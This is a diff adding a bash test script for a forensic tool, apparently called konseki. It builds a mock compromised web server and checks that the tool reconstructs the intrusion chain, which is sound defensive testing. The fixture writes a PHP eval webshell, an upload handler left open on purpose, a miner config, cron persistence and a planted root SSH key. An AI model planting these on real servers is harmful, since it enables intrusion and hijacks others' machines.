@@ -1,0 +1,167 @@
+#!/usr/bin/env bash
+# The story of an intrusion, told in order with the evidence of each link: an upload hole, a webshell,
+# its requests in the logs, a miner, a cron entry and a planted key, among the files of a quiet site.
+# The same site without them has no findings above low. All of it is made here and does nothing.
+source "$(dirname "$0")/lib.sh" "$1"
+export PATH="$PATH:/usr/sbin:/sbin" TZ=UTC
+command -v python3 >/dev/null || skip "python3 is not installed"
+
+# A site of some pages, an upload form, pictures and a job, as it was set up long ago.
+quiet_site() {
+  local root=$1 web=$1/var/www/html i
+  mkdir -p "$root"/etc/nginx "$root"/etc/cron.d "$root"/var/log/nginx "$root"/root/.ssh "$root"/home "$root"/usr/bin
+  mkdir -p "$web"/uploads/2026 "$web"/css "$web"/lib
+  printf 'PRETTY_NAME="Test Linux 1"\nID=debian\n' >"$root/etc/os-release"
+  echo web1 >"$root/etc/hostname"
+  printf 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n' >"$root/etc/passwd"
+  cat >"$root/etc/nginx/nginx.conf" <<'CONF'
+user www-data;
+http {
+  access_log /var/log/nginx/access.log combined;
+  server { listen 80; server_name shop.example; root /var/www/html; }
+}
+CONF
+  printf '17 * * * * root run-parts /etc/cron.hourly\n' >"$root/etc/crontab"
+  for i in 1 2 3 4 5 6; do
+    printf '<?php\nrequire "lib/page%s.php";\necho htmlspecialchars($title);\n' "$i" >"$web/page$i.php"
+    printf '<?php\n$title = "Page %s";\nfunction page%s_title() { return strtoupper("page"); }\n' "$i" "$i" >"$web/lib/page$i.php"
+  done
+  printf '<?php\n$name = basename($_FILES["f"]["name"]);\nmove_uploaded_file($_FILES["f"]["tmp_name"], "uploads/2026/" . $name);\n' >"$web/upload.php"
+  printf '<?php\n// Called by a timer.\nforeach (glob("/var/spool/shop/*.job") as $job) { unlink($job); }\n' >"$web/cron.php"
+  printf '\377\330\377\340JFIF picture' >"$web/uploads/2026/cat.jpg"
+  printf 'body { margin: 0 }\n' >"$web/css/site.css"
+  find "$root" -exec touch -h -d '2025-03-01 00:00:00 UTC' {} +
+}
+
+# log ROOT INTRUDER: a day of visitors; the older half rotated and compressed.
+write_log() {
+  python3 - "$1" "$2" <<'PYTHON'
+import datetime, gzip, os, sys
+root, intruder = sys.argv[1], sys.argv[2] == "yes"
+day = datetime.datetime(2026, 1, 2, tzinfo=datetime.timezone.utc)
+lines = []
+def ask(minute, client, request, status=200, referer="-", agent="Mozilla/5.0 (X11)"):
+    at = (day + datetime.timedelta(minutes=minute)).strftime("%d/%b/%Y:%H:%M:%S +0000")
+    lines.append((minute, f'{client} - - [{at}] "{request} HTTP/1.1" {status} {700 + minute} "{referer}" "{agent}"'))
+for i in range(1400):
+    client = f"198.51.100.{i % 90 + 1}"
+    ask(i, client, f"GET /page{i % 6 + 1}.php", referer="https://shop.example/")
+    if i % 50 == 0: ask(i, client, "GET /uploads/2026/cat.jpg", referer="https://shop.example/page1.php")
+    if i % 60 == 0: ask(i, "192.0.2.10", "POST /cron.php", agent="curl/8.5.0")
+ask(300, "198.51.100.200", "GET /page1.php?cmd=whoami")      # a scanner
+ask(301, "198.51.100.200", "GET /uploads/2026/none.php?cmd=id", 404)
+if intruder:
+    ask(595, "203.0.113.77", "GET /upload.php")
+    ask(600, "203.0.113.77", "POST /upload.php")
+    ask(602, "203.0.113.77", "POST /uploads/2026/thumb.php")
+    ask(606, "203.0.113.77", "GET /uploads/2026/thumb.php?c=whoami")
+    ask(720, "203.0.113.77", "POST /uploads/2026/thumb.php")
+    ask(900, "203.0.113.78", "POST /uploads/2026/thumb.php")
+lines.sort(key=lambda each: each[0])
+early = "".join(text + "\n" for minute, text in lines if minute < 700)
+late = "".join(text + "\n" for minute, text in lines if minute >= 700)
+with gzip.GzipFile(root + "/var/log/nginx/access.log.1.gz", "wb", mtime=0) as file: file.write(early.encode())
+with open(root + "/var/log/nginx/access.log", "w") as file: file.write(late)
+PYTHON
+}
+
+intrusion() {
+  local root=$1 wallet
+  local shell=$root/var/www/html/uploads/2026/thumb.php miner=$root/tmp/.X11-unix/.x
+  printf '<%sphp @ev%s($_PO%s["k"]);\n' '?' al ST >"$shell"
+  touch -d '2026-01-02 10:00:10 UTC' "$shell"
+  printf 'list of files\n' >"$root/var/www/html/uploads/2026/note.txt"
+  touch -d '2026-01-02 10:20:00 UTC' "$root/var/www/html/uploads/2026/note.txt"
+  mkdir -p "$miner"
+  wallet=43AbCdEfGh$(printf '7%.0s' $(seq 85))
+  printf '{"autosave": true, "cpu": {"enabled": true, "huge-pages": true}, "donate-level": 1,\n "pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "%s", "pass": "x", "keepalive": true}]}\n' "$wallet" >"$miner/config.json"
+  touch -d '2026-01-02 10:30:00 UTC' "$miner/config.json"
+  mkdir -p "$root/var/spool/cron/crontabs"
+  echo '*/10 * * * * /tmp/.X11-unix/.x/kworker -c /tmp/.X11-unix/.x/config.json >/dev/null 2>&1' >"$root/var/spool/cron/crontabs/www-data"
+  touch -d '2026-01-02 10:31:00 UTC' "$root/var/spool/cron/crontabs/www-data"
+  echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f intruder' >"$root/root/.ssh/authorized_keys"
+  touch -d '2026-01-02 10:40:00 UTC' "$root/root/.ssh/authorized_keys"
+  # Who may not give files away has a story without the owner's part.
+  chown 33:33 "$shell" "$root/var/www/html/uploads/2026/note.txt" "$miner/config.json" 2>/dev/null || true
+}
+
+cat >check.py <<'PYTHON'
+import json, sys
+findings = [json.loads(line) for line in open("findings")]
+def one(matcher, ending):
+    found = [f for f in findings if f["matcher"] == matcher and f["source"].get("path", "").endswith(ending)]
+    assert len(found) == 1, (matcher, ending, found)
+    return found[0]
+def names(finding): return {w["witness"]: w for w in finding["evidence"]}
+
+shell = one("webshell", "uploads/2026/thumb.php")
+assert shell["severity"] in ("high", "critical"), shell
+said = names(shell)
+for name in ("log.requests", "log.few_clients", "log.no_referer", "file.in_upload_folder", "log.first_after_birth"):
+    assert name in said and said[name]["text_en"] and said[name]["text_ja"], (name, list(said))
+places = said["log.requests"]["addresses"]
+logs = sorted((p["path"].rsplit("/", 1)[1]) for p in places)
+assert logs == ["access.log", "access.log", "access.log.1.gz", "access.log.1.gz"], logs
+assert "203.0.113.77" in shell["reason_en"] and "203.0.113.78" in shell["reason_ja"], shell
+assert shell["first_seen"].startswith("2026-01-02T10:02:00") and shell["last_seen"].startswith("2026-01-02T15:00:00")
+miner = one("miner", "tmp/.X11-unix/.x/config.json")
+assert miner["severity"] in ("high", "critical"), miner
+
+story = [f for f in findings if f["matcher"] == "escalation"]
+assert len(story) == 1 and story[0]["severity"] in ("info", "low"), story
+story = story[0]
+order = [w["witness"] for w in story["evidence"] if w["witness"].startswith("chain.")]
+kinds = list(dict.fromkeys(order))
+assert kinds == ["chain.entry", "chain.webshell", "chain.miner", "chain.persistence"], order
+said = names(story)
+def holds(name, *texts):
+    witness = said[name]
+    for text in texts: assert text in witness.get("excerpt", "") + witness["text_en"], (name, text, witness)
+    assert witness["text_ja"] and witness["addresses"], witness
+holds("chain.entry", "POST /upload.php", "203.0.113.77", "2026-01-02T10:00:00Z")
+holds("chain.webshell", "thumb.php", "2026-01-02T10:00:10Z", "203.0.113.77")
+holds("chain.miner")
+holds("chain.persistence", "/var/spool/cron/crontabs/www-data", "/root/.ssh/authorized_keys")
+assert "/etc/crontab" not in said["chain.persistence"]["excerpt"]
+holds("near.writer", "note.txt")
+holds("near.client", "/upload.php")
+for part in ("entry POST /upload.php", "webshell ", "miner ", "persistence "): assert part in story["reason_en"], story["reason_en"]
+for part in ("侵入口 POST /upload.php", "Web シェル ", "マイナー ", "永続化 "): assert part in story["reason_ja"], story["reason_ja"]
+at = [story["reason_en"].index(part) for part in ("entry POST", "-> webshell", "-> miner", "-> persistence")]
+assert at == sorted(at), story["reason_en"]
+others = [f for f in findings if f["severity"] in ("medium", "high", "critical")
+          and not any(part in f["source"].get("path", "") for part in ("thumb.php", "/.x/", "crontabs/www-data", "upload.php"))]
+assert not others, others
+PYTHON
+
+tell() {  # NAME SOURCE
+  collect 0 --profile web-server --lang en "$2"
+  lines "$bundle" findings >findings
+  python3 check.py || die "$1: $(cut -c1-600 findings)"
+  tar --zstd -tf "$bundle" | grep -q 'uploads/2026/thumb.php' || die "$1: the webshell is not in the bundle"
+  for language in en ja; do
+    rm -rf out && mkdir out
+    "$konseki" collect --allow-output-on-source -o out --profile web-server --lang "$language" "$2" >stdout 2>stderr ||
+      die "$1: $language"
+    cat stderr >>stdout
+    if [ "$language" = en ]; then expect stdout "entry POST /upload.php"; else expect stdout "侵入口 POST /upload.php"; fi
+  done
+}
+
+quiet_site quiet
+write_log quiet no
+collect 0 --profile web-server quiet
+tar --zstd -tf "$bundle" | grep -q 'konseki/records/web.access' || die "no requests were read"
+if tar --zstd -tf "$bundle" | grep -q 'konseki/findings'; then
+  lines "$bundle" findings >findings
+  ! grep -E '"severity":"(medium|high|critical)"' findings || die "a quiet site has findings"
+  ! grep -q '"matcher":"escalation"' findings || die "a quiet site was escalated"
+fi
+
+cp -a quiet host
+write_log host yes
+intrusion host
+tell folder host
+command -v mke2fs >/dev/null || skip "mke2fs is not installed; the folder was told"
+truncate -s 64M host.ext4 && mke2fs -q -t ext4 -d host host.ext4
+tell image host.ext4
